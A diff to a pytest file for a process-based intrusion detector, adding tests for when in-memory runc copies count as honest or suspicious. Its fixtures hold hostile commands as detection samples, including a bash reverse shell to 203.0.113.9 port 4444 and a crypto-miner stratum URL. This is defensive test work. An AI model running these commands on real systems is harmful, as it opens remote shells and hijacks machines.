@@ -48,6 +48,7 @@ def process(exe: str | None, *argv: str, **more: Any) -> dict[str, Any]:
         (process("/var/www/.../x", "x"), "hidden"),
         (process("/usr/bin/python3.11", "python3", "-u", "/tmp/.p/c2.py"), "hidden"),
         (process("/memfd:x", "sshd", "9999", deleted=True), "memory"),
+        (process("/memfd:runc_cloned:/proc/self/exe", "runc", "init", deleted=True), "memory"),
         (process("/opt/x/a", "a", "-o", "stratum+tcp://203.0.113.9:3333"), "miner"),
         (process("/usr/local/bin/xmrig", "xmrig"), "miner"),
         (process("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), "door"),
@@ -78,8 +79,6 @@ def test_a_sign_is_seen(row: dict[str, Any], sign: str) -> None:
         process("/tmp/go-build3829/b001/exe/main", "main", deleted=True),
         process("/tmp/.mount_ObsidiXYZ/obsidian", "obsidian"),
         process("/tmp/build/a.out", "./a.out"),
-        process("/memfd:runc_cloned:/proc/self/exe", "runc", "init", deleted=True),
-        process("/memfd:lxc-attach", "lxc-attach", deleted=True),
         process("/usr/bin/bash", "bash", "-c", "curl https://example.org/ | grep x"),
         process("/usr/bin/nc", "nc", "-zv", "db.example.org", "5432"),
         process("/usr/bin/nc", "nc", "-l", "9000"),
@@ -97,8 +96,56 @@ def test_honest_programs_are_left_alone(row: dict[str, Any]) -> None:
 def test_what_an_ordinary_user_cannot_see_is_counted() -> None:
     rows = [process(None, "sshd"), process(None, name="kworker/1"), process("/usr/bin/bash", "bash")]
     machine = MACHINE | {"elevated": False}
-    assert intrusions.processes(given({("processes",): rows, ("machine",): machine})) == ((), 1)
-    assert intrusions.processes(given({("processes",): rows})) == ((), 0)
+    assert seen({("processes",): rows, ("machine",): machine})[0] == ((), 1)
+    assert seen({("processes",): rows})[0] == ((), 0)
+
+
+COPY = "/memfd:runc_cloned:/proc/self/exe"
+INSTALLED = {"kind": "file", "uid": 0, "mode": 0o755, "size": 9}
+
+
+def seen(answers: dict[tuple[Any, ...], Any]) -> tuple[tuple[tuple[intrusions.Process, ...], int], tuple[Gap, ...]]:
+    host = bare({("machine",): MACHINE, **answers})
+    more = Supplements(host)
+    return intrusions.processes(host, more), more.unseen
+
+
+def in_memory(row: dict[str, Any], installed: dict[str, Any], **content: str) -> dict[tuple[Any, ...], Any]:
+    parent = process("/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2", pid=90)
+    names = {str(row["name"]), "runc", "x"}
+    return {
+        ("processes",): [parent, row | {"ppid": 90}],
+        **{("which", name): "/usr/sbin/runc" if name == "runc" else None for name in names},
+        ("stat", "/usr/sbin/runc"): installed,
+        ("stat", "/proc/120/exe"): INSTALLED | {"mode": 0o777},
+        **{("digest", path): found for path, found in content.items()},
+    }
+
+
+@pytest.mark.parametrize(
+    ("row", "installed", "content", "signs"),
+    [
+        (process(COPY, "runc", "init"), INSTALLED, "aa", []),
+        (process("/memfd:x", "/tmp/runc"), INSTALLED, "aa", []),
+        (process(COPY, "runc", "init"), INSTALLED, "bb", ["memory"]),
+        (process(COPY, "runc", "init"), INSTALLED | {"size": 8}, "aa", ["memory"]),
+        (process(COPY, "runc", "init"), INSTALLED | {"uid": 1000}, "aa", ["memory"]),
+        (process(COPY, "runc", "init"), INSTALLED | {"mode": 0o777}, "aa", ["memory"]),
+        (process(COPY, "x", "-o", "stratum+tcp://203.0.113.9:3333"), INSTALLED, "aa", ["miner"]),
+    ],
+)
+def test_a_program_in_memory_is_honest_only_as_a_copy_of_an_installed_one(
+    row: dict[str, Any], installed: dict[str, Any], content: str, signs: list[str]
+) -> None:
+    (found, _), unseen = seen(in_memory(row, installed, **{"/proc/120/exe": content, "/usr/sbin/runc": "aa"}))
+    assert ([one.sign for one in found], unseen) == (signs, ())
+
+
+def test_a_copy_that_cannot_be_compared_is_told_and_one_that_has_ended_is_not() -> None:
+    answers = in_memory(process(COPY, "runc", "init"), INSTALLED)
+    late = answers | {("digest", "/proc/120/exe"): ProbeError(Reason.TIMEOUT)}
+    assert seen(late) == (((), 0), (Gap("/proc/120/exe", Reason.TIMEOUT, question="digest"),))
+    assert seen(answers | {("stat", "/proc/120/exe"): GONE}) == (((), 0), ())
 
 
 def test_second_administrators() -> None:
